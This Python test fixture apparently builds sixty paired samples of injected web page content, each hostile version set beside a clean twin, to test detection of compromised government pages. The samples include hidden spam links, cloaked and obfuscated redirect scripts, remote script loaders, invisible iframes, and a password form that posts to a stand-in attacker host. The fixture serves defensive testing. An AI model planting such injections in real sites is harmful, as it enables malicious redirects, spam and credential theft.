"""Sixty attacks of the kinds that reports tell of most, in spellings of their own; each with its clean twin."""

import base64
from collections.abc import Iterator
from urllib.parse import quote

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_ADS = f'<a href="{BAD}/x1">不锈钢水箱</a> <a href="{BAD}/x2">搬家公司</a> <a href="{BAD}/x3">礼品定制</a>'
_MATES = f'<a href="{GOOD}/">云山旅游</a> <a href="http://www.cq.gov.cn/">市政府网</a>'


def _in(name: str, around: str, twin: str, plain: bool = True) -> Attack:
    return Attack(name, home(around.format(_ADS)), home(twin.format(_MATES)), plain)


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(f"<script>{script}</script>"), home(f"<script>{twin}</script>"), plain)


def _hidden() -> Iterator[Attack]:
    yield _in("span", "<span style='display:none;'>{}</span>", "<span style='display:inline;'>{}</span>")
    yield _in(
        "far above",
        "<div style='position: absolute; top: -3589px; left: 0px;'>{}</div>",
        "<div style='position: absolute; top: 9px; left: 0px;'>{}</div>",
    )
    yield _in(
        "far left",
        "<div style='left:-2380px; position:absolute;'>{}</div>",
        "<div style='left:-2px; position:absolute;'>{}</div>",
    )
    yield _in(
        "one pixel high",
        "<div style='overflow:hidden;height:1px;'>{}</div>",
        "<div style='overflow:hidden;height:31px;'>{}</div>",
    )
    yield _in("font of nothing", "<font style='font-size:0px'>{}</font>", "<font style='font-size:10px'>{}</font>")
    yield _in(
        "line that runs",
        "<marquee width='1' height='1' scrollamount=3000 scrolldelay=20000>{}</marquee>",
        "<marquee width='600' height='30' scrollamount=3>{}</marquee>",
    )
    yield _in(
        "indented and flat",
        "<div style='text-indent:-9999px;height:0'>{}</div>",
        "<div style='text-indent:2em;height:2em'>{}</div>",
    )
    yield _in(
        "list out of sight",
        "<ul style='visibility:hidden'><li>{}</li></ul>",
        "<ul style='list-style:none'><li>{}</li></ul>",
    )
    yield _in(
        "table out of sight",
        "<table height=0 width=0 style='display:none'><tr><td>{}</td></tr></table>",
        "<table height=30 width=300><tr><td>{}</td></tr></table>",
    )
    yield _in(
        "no room",
        "<div style='height:0;width:0;overflow:hidden'><p>{}</p></div>",
        "<div style='height:5em;width:50%;overflow:hidden'><p>{}</p></div>",
    )
    yield _in(
        "class of no meaning",
        "<style>.a1b2{{position:absolute;margin-left:-10000px}}</style><div class='a1b2'>{}</div>",
        "<style>.a1b2{{margin-left:10px}}</style><div class='a1b2'>{}</div>",
    )
    yield _in(
        "id of importance",
        "<style>#ft_h{{display:none !important}}</style><div id='ft_h'>{}</div>",
        "<style>#ft_h{{display:block !important}}</style><div id='ft_h'>{}</div>",
    )
    yield _in(
        "inner box",
        "<div style='color:#333'><div><div style='display:none'>{}</div></div></div>",
        "<div style='color:#333'><div><div style='display:flex'>{}</div></div></div>",
    )
    yield _in(
        "white and small",
        "<div style='color:white;background-color:white;font-size:1px'>{}</div>",
        "<div style='color:white;background-color:#0055aa;font-size:13px'>{}</div>",
    )
    yield _in(
        "transparent both ways",
        "<div style='opacity:0;filter:alpha(opacity=0);height:1px'>{}</div>",
        "<div style='opacity:.8;filter:alpha(opacity=80)'>{}</div>",
    )
    yield _in("paragraph hidden", "<p hidden='hidden'>{}</p>", "<p class='hidden-xs'>{}</p>")
    yield Attack(
        "links each far off",
        home("".join(f"<a style='position:fixed;left:-300em' href='{BAD}/{n}'>商品{n}</a>" for n in range(4))),
        home("".join(f"<a style='position:relative;left:3px' href='/{n}'>商品{n}</a>" for n in range(4))),
    )
    yield Attack("pictures", home(f"<div style='display:none'><a href='{BAD}/1'><img src='/a.gif'></a><a "
                                  f"href='{BAD}/2'><img src='/b.gif'></a></div>"),
                 home(f"<div><a href='{GOOD}/'><img src='/a.gif'></a></div>"))  # fmt: skip
    yield Attack(
        "among the friends",
        home(f"<ul><li>{_MATES}</li><li style='display:none'>{_ADS}</li></ul>"),
        home(f"<ul><li>{_MATES}</li><li style='float:left'>{_MATES}</li></ul>"),
    )
    yield Attack("by its id later", home(f"<div id='hx'>{_ADS}</div><script>document.getElementById(\"hx\").style.dis"
                                         f"play=\"none\"</script>"),
                 home(f"<div id='hx'>{_MATES}</div><script>document.getElementById(\"hx\").style.display=\"\"</script"
                      f">"))  # fmt: skip
    yield Attack("between two writings", home(f"<script>document.write(\"<div style='display:none'>\");</script>"
                                              f"{_ADS}<script>document.write(\"</div>\");</script>"),
                 home(f"<script>document.write(\"<div class='yqlj'>\");</script>{_MATES}<script>"
                      f"document.write(\"</div>\");</script>"))  # fmt: skip
    yield _in(
        "without scripts",
        "<noscript><div>{}<a href='" + BAD + "/c'>时时彩投注</a></div></noscript>",
        "<noscript><img src='/count.gif'></noscript>",
    )


def _led() -> Iterator[Attack]:
    yield _run(
        "from baidu",
        f'if(document.referrer.indexOf("baidu")>-1) window.location.href="{BAD}";',
        'if(document.referrer.indexOf("yunshan")>-1) showBack();',
    )
    yield _run("from any searcher", "var r=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing)(\\.[a-z0-9\\-]+){1,2}\\//i"
                                    "g;if(r.test(document.referrer)){location=\"" + BAD + "\""
        "}",
               "var r=/\\.(jpg|png|gif)$/ig;if(r.test(img.src)){zoom(img)}")  # fmt: skip
    yield _run(
        "telephones",
        f"var m=navigator.userAgent.match(/iPhone|Android/i);if(m!=null){{location.href='{BAD}/m'}}",
        "var m=navigator.userAgent.match(/iPhone|Android/i);if(m!=null){$('body').addClass('m')}",
    )
    yield _run("packed again", f"eval(function(p,a,c,k,e,r){{e=String;while(c--)if(k[c])p=p.replace(new RegExp('\\\\b"
                               f"'+c+'\\\\b','g'),k[c]);return p}}('0.1=\"2://3\"',4,4,'window|location|http|{_HOST}'"
                               f".split('|'),0,{{}}))",
               "function pack(p,a,c){return p+a+c}pack(1,2,3)")  # fmt: skip
    yield _run(
        "script in code",
        'document.write(unescape("' + quote(f"<script src='{BAD}/s.js'></script>") + '"))',
        'document.write(unescape("%3Cbr%3E"))',
        plain=False,
    )
    yield _run("all in figures", "window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"][\"\\x77\\x72\\x69\\x74\\x65\\x"
                                 "6c\\x6e\"](\"" + "".join(f"\\"
        f"x{ord(c):02x}" for c in f"<"
        f"script src={BAD}/a.js></script>") + "\""
        ")",
               "window[\"document\"][\"title\"]")  # fmt: skip
    yield _run(
        "base64 run",
        f'eval(atob("{base64.b64encode(f"location.href=`{BAD}`".encode()).decode()}"))',
        'var ic="data:image/gif;base64,R0lGODlhAQABAAAAACw="',
    )
    yield _run(
        "characters run",
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in f"top.location='{BAD}'") + "))",
        "var x=String.fromCharCode(65,66)",
    )
    yield _run("a known obfuscator", "var _0xodm='jsjiami.com.v6',_0x1c2d=[_0xodm,'w6fDqMKU','wq3CgMO'];"
                                     "(function(_0x3a1b,_0x5c2e,_0x4d3f)"
                                     "{var _0x2e4a=function(_0x1f5b){return _0x1f5b}}(_0x1c2d,0x1a4,0x1a400));",
               "var list=['w6','wq'];(function(a,b){return a+b}(1,2));")  # fmt: skip
    yield _run("timer", f"setTimeout('window.location.href=\"{BAD}\"',3000)", "setTimeout('slide()',3000)")
    yield _run(
        "everybody but the spider",
        f"if(!/baiduspider/i.test(navigator.userAgent)){{location='{BAD}'}}",
        "if(!/msie/i.test(navigator.userAgent)){init()}",
    )
    yield _run(
        "frame made",
        f'var f=document.createElement("iframe");f.src="{BAD}";f.style.display="none";document.body.appendChild(f)',
        'var f=document.createElement("div");f.className="top";document.body.appendChild(f)',
        plain=False,
    )
    yield _run(
        "put into the head",
        f'$("head").append("<script src=\'{BAD}/x.js\'></scr"+"ipt>")',
        '$("head").append("<meta name=\'t\'>")',
        plain=False,
    )
    yield _run(
        "once all is loaded",
        f"window.onload=function(){{setTimeout(function(){{location.href='{BAD}/l'}},10)}}",
        "window.onload=function(){setTimeout(function(){fade()},10)}",
    )
    yield _run("window of the top", f'top.window.location.replace("{BAD}")', "top.window.scrollTo(0,0)")
    yield _run(
        "address in code",
        f'location.href=decodeURIComponent("{quote(BAD, safe="").replace(".", "%2E")}")',
        'var k=decodeURIComponent("%E4%BA%91")',
    )
    yield _run(
        "three names",
        f'var a="htt",b="p://",c="{_HOST}";window.location=a+b+c',
        'var a="云",b="山",c="县";document.title=a+b+c',
    )
    yield _run(
        "title for searchers",
        "if(/Baiduspider|Sogou/i.test(navigator.userAgent)){document.title='澳门百家乐'}",
        "if(/Trident/i.test(navigator.userAgent)){document.title='云山县人民政府'}",
    )
    yield _run(
        "old way of asking",
        f"if(window.navigator.userAgent.indexOf('MicroMessenger')<0){{self.location.href='{BAD}/wx'}}",
        "if(window.navigator.userAgent.indexOf('MicroMessenger')<0){share.hide()}",
    )
    yield _run(
        "first visit alone",
        f"if(document.cookie.indexOf('v=1')<0){{document.cookie='v=1';location.href='{BAD}/once'}}",
        "if(document.cookie.indexOf('v=1')<0){document.cookie='v=1';showGuide()}",
    )


def _named() -> Iterator[Attack]:
    yield Attack("title of a galaxy", home(title="澳门银河_官方网站"), home(title="银河小学_红领巾广播站"))
    yield Attack("title of electronics", home(title="pg电子(中国)官网"), home(title="县电子商务产业园招商"))
    yield Attack(
        "keywords of races",
        home(head="<meta name='keywords' content='北京赛车pk10,幸运飞艇'>"),
        home(head="<meta name='keywords' content='赛龙舟,赛诗会'>"),
    )
    yield Attack(
        "description of bills",
        home(head="<meta name='description' content='各行业代开发票，诚信经营'>"),
        home(head="<meta name='description' content='严打虚开发票行为'>"),
    )
    yield Attack(
        "title in figures of the web",
        home(title="".join(f"&#x{ord(c):x};" for c in "百家乐在线游戏")),
        home(title="".join(f"&#x{ord(c):x};" for c in "百家宴民俗活动")),
    )
    yield Attack(
        "refresh in capitals",
        home(head=f"<META HTTP-EQUIV='REFRESH' CONTENT='3; URL={BAD}'>"),
        home(head="<META HTTP-EQUIV='REFRESH' CONTENT='1800'>"),
    )
    yield Attack(
        "friends of chance",
        home(f"<div class='link'><a href='{BAD}/cp'>彩票平台</a><a href='{BAD}/qp'>真钱棋牌</a></div>"),
        home("<div class='link'><a href='http://www.cwl.gov.cn/'>福利彩票</a></div>"),
    )
    yield Attack(
        "heading of theirs",
        home(f"<h1 style='position:absolute;left:-999em'><a href='{BAD}'>六合彩资料</a></h1>"),
        home("<h1 style='position:relative'><a href='/'>云山资料</a></h1>"),
    )
    yield Attack(
        "letters of another alphabet",
        home("<a href='http://www.xn--yunshn-4fg.example/'>云山县人民政府</a>"),
        home("<a href='http://zwfw.yunshan.example/'>云山县政务服务</a>"),
    )


def _framed() -> Iterator[Attack]:
    yield _in(
        "frame of no size at all",
        f"<iframe src='{BAD}/1' width=0 height=0 frameborder=0></iframe>",
        "<iframe src='/gg.html' width=950 height=90 frameborder=0></iframe>",
    )
    yield _in(
        "frame out of sight",
        f"<iframe src='{BAD}/2' style='visibility:hidden'></iframe>",
        "<iframe src='/gg.html' style='border:0'></iframe>",
    )
    yield _in(
        "frame over all",
        f"<iframe src='{BAD}/3' style='position:absolute;top:0;left:0;width:100%;height:100%;"
        f"z-index:2147483647'></iframe>",
        "<iframe src='/v.html' style='width:100%;height:320px'></iframe>",
    )
    yield _in(
        "object of no size",
        f"<object data='{BAD}/4' width=1 height=1></object>",
        "<object data='/a.pdf' width=600 height=800></object>",
    )
    yield _in("embedded", f"<embed src='{BAD}/5.swf' width=0 height=0>", "<embed src='/a.mp4' width=640 height=360>")
    yield _in(
        "form for a password",
        f"<form method=post action='{BAD}/login'>账号<input name=u>密码<input name=p type=password></form>",
        "<form method=post action='/login'>账号<input name=u>密码<input name=p type=password></form>",
    )
    yield Attack("frames in place of the page", f"<html><head><title>首页_云山县人民政府</title></head><frameset "
                                                f"rows='*,0'><frame src='{BAD}/'><frame src='about:blank'></frameset>"
                                                f"</html>",
                 home("<iframe src='/news.html' width=500 height=300></iframe>"))  # fmt: skip
    yield _in(
        "picture that is not there",
        f"<img src='/404.png' onerror=\"window.location.href='{BAD}/e'\">",
        "<img src='/404.png' onerror=\"this.style.display='none'\">",
    )
    yield _in(
        "frame that holds a script",
        f"<iframe srcdoc=\"<script>parent.location.href='{BAD}/s'</script>\"></iframe>",
        "<iframe srcdoc='<b>公告</b>'></iframe>",
    )


USUAL_ATTACKS = (*_hidden(), *_led(), *_named(), *_framed())
